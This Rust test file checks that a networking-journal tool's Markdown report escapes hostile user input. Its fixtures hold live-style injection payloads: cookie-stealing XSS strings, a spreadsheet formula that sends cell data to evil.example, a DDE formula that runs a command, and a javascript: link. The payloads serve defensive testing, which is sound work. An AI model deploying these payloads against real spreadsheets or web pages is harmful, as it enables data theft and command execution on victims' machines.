//! Outputs that cannot be turned against their reader (issue 15): values that came from a
//! calendar invite, an import or a paste — markup, formulas, terminal escapes — are written as
//! text in a Markdown report, neutralised in CSV, and shown without acting on a terminal.

use crate::common::TestEnv;

/// A journal whose names, reasons and notes hold Markdown, HTML, formulas and terminal escapes:
/// what an attacker can put in a calendar invite's attendee list or an export.
fn hostile() -> TestEnv {
    let env = TestEnv::new();
    let network = "Club | Pipe *star* _under_";
    env.ok([
        "add",
        "network",
        network,
        "--kind",
        "local",
        "--joined",
        "2024-01-10",
    ]);
    env.ok([
        "log",
        "meeting",
        "--network",
        network,
        "--date",
        "2024-02-06",
        "--format",
        "breakfast",
        "--met",
        "<img src=x onerror=alert(document.cookie)>",
        "--met",
        "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
        "--notes",
        "=cmd|' /C calc'!A0",
    ]);
    // Met twice in a network still attended: the report's next steps suggest a coffee with
    // them, by name.
    env.ok([
        "add",
        "network",
        "Open Club",
        "--kind",
        "local",
        "--joined",
        "2024-01-10",
    ]);
    for date in ["2024-02-13", "2024-03-12"] {
        env.ok([
            "log",
            "meeting",
            "--network",
            "Open Club",
            "--date",
            date,
            "--format",
            "lunch",
            "--met",
            "<img src=x onerror=alert(document.cookie)>",
        ]);
    }
    env.ok([
        "note",
        "[click me](javascript:alert(1))\n# Injected heading\n| a | b |",
        "--network",
        network,
        "--concern",
        "--date",
        "2024-02-10",
    ]);
    env.ok([
        "leave",
        "network",
        network,
        "--date",
        "2024-03-01",
        "--reason",
        "they said `rm -rf`\n# Another heading\n<script>alert(1)</script>",
    ]);
    env
}

#[test]
fn markdown_report_writes_user_values_as_text() {
    let env = hostile();
    let md = env.ok(["report", "--format", "md"]);
    // No raw HTML, no heading of the user's, no table broken by a pipe.
    assert_eq!(unescaped(&md, '<'), 0, "{md}");
    assert_eq!(unescaped(&md, '>'), 0, "{md}");
    assert!(
        md.contains("Have a coffee with \\<img src=x onerror=alert(document.cookie)\\>"),
        "{md}"
    );
    assert!(md.contains("\\<script\\>alert(1)\\</script\\>"), "{md}");
    for line in md.lines() {
        assert!(
            !line.starts_with("# Injected") && !line.starts_with("# Another"),
            "a user value became a heading: {line:?}\n{md}"
        );
    }
    assert!(md.contains("Club \\| Pipe \\*star\\* \\_under\\_"), "{md}");
    // Every row of the summary table has as many cell edges as its header.
    let table: Vec<&str> = md
        .lines()
        .skip_while(|line| !line.starts_with('|'))
        .take_while(|line| line.starts_with('|'))
        .collect();
    assert!(table.len() >= 3, "{md}");
    let edges = unescaped(table[0], '|');
    assert!(
        table.iter().all(|line| unescaped(line, '|') == edges),
        "{md}"
    );
    assert!(
        md.contains("\\[click me\\](javascript:alert(1)) # Injected heading \\| a \\| b \\|"),
        "{md}"
    );
}

/// How many times `mark` appears in `text` without a backslash before it.
fn unescaped(text: &str, mark: char) -> usize {
    let mut count = 0;
    let mut escaped = false;
    for c in text.chars() {
        if escaped {
            escaped = false;
        } else if c == '\\' {
            escaped = true;
        } else if c == mark {
            count += 1;
        }
    }
    count
}
